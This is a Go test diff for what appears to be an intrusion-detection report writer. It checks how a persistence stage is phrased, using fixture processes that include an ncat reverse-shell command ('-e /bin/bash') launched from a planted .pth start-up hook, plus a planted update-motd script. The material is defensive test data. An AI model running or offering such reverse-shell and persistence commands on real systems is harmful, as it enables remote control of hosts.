@@ -545,3 +545,37 @@ func TestCleanupAccountsAreAccounts(t *testing.T) {
 		}
 	}
 }
+
+// A start-up hook's firing is inferred (no exec names the hook): the
+// sentence says so and names the hook, where a planted file's own run is
+// said as observed.
+func TestStageSentenceHookFiredIsInferred(t *testing.T) {
+	t0 := time.Date(2026, 12, 4, 18, 39, 1, 0, time.UTC)
+	ncat := &DocProcess{PID: 17811, PPID: 17790, Exe: "/usr/bin/ncat", User: "root",
+		Args: []string{"/usr/bin/ncat", "--ssl", "127.0.0.1", "4447", "-e", "/bin/bash"}}
+	hook := &DocProcess{PID: 900, PPID: 899, Exe: "/usr/bin/dash", User: "root", Args: []string{"/bin/sh", "/etc/update-motd.d/60-x"}}
+	fs := []DocFinding{
+		{ID: "F0001", RuleIDs: []string{"planted-file-run"}, Title: "P", Severity: "high", Stage: 5, StageID: "persistence", Time: t0, Kind: "exec",
+			Hook: "/srv/kb/venv/lib/python3.11/site-packages/x.pth", ChainID: "C01", Outcome: OutcomeSuccess, Process: ncat},
+		{ID: "F0002", RuleIDs: []string{"planted-file-run"}, Title: "P", Severity: "high", Stage: 5, StageID: "persistence", Time: t0.Add(time.Second), Kind: "exec",
+			ChainID: "C01", Outcome: OutcomeSuccess, Process: hook},
+	}
+	byID := map[string]*DocFinding{}
+	for i := range fs {
+		byID[fs[i].ID] = &fs[i]
+	}
+	sg := DocStage{Stage: 5, StageID: "persistence", Name: "Persistence", Observed: true, Confidence: "observed", FindingIDs: []string{"F0001", "F0002"}}
+	got := sentence(&DocChain{ID: "C01", FindingIDs: sg.FindingIDs, Stages: []DocStage{sg}}, sg, byID, "").Text
+	for _, want := range []string{
+		"the start-up hook /srv/kb/venv/lib/python3.11/site-packages/x.pth fired (inferred",
+		"`/usr/bin/ncat --ssl 127.0.0.1 4447 -e /bin/bash`",
+		"the planted file ran as `/bin/sh /etc/update-motd.d/60-x`",
+	} {
+		if !strings.Contains(got, want) {
+			t.Errorf("%q: want %q", got, want)
+		}
+	}
+	if strings.Contains(got, "ran as `/usr/bin/ncat") {
+		t.Errorf("%q: the hook's child is said as the planted file's own run", got)
+	}
+}
